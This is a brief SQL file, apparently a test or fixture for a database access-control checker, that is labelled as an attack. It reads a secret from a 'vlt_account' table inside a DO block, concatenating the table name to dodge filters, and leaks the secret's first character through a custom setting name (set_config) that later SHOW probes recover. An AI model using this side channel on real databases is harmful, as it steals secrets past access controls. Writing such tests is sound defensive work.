-- Makes up a parameter by a letter in a block that is refused, and shows what there is.
-- wants: read
-- shows: letter-116
-- attack:
DO $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM vlt_' || 'account WHERE id = 1' INTO value;
  PERFORM set_config('x.y1_' || ascii(value), '', true);
END $$;
-- repeat: 112..118
BEGIN;
SHOW "x.y1_{n}";
SELECT 'letter' || '-{n}';
ROLLBACK;
